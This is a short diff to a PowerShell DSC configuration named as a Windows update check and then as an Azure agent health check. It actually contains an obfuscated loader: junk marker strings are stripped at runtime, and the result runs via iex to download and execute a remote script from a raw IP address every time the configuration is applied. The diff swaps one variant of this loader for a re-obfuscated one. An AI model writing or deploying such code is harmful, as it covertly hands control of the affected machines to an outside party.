@@ -1,12 +1,12 @@
-iex (('# bootstrap 6134 v4
-Configuration Windowsqq~3pdateCheck {
-  ImpoVJZ57rt-DscResource -ModuleName PSDesiredStateConfiguration
+iex (('# KJX20provision 8049 v4
+Configuration AzureAgentHealth {
+  Import-DscResource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '''' } }
       TestScript = { $false }
-      SetScript = { IEXVJZ57 (New-Object Net.WebClient).DownloadString(''http://192.0.2.44/VJZ57payload.ps1'') }
+      SetScript = { IEX (New-jv~5bject Net.WebClient).DownloadString(''http://198.51.100.9/inv.ps1'') }
     }
-  }
+  KJX20}
 }
-' -replace 'VJZ57','').Replace('qq~3','U'))
+' -replace 'KJX20','').Replace('jv~5','O'))
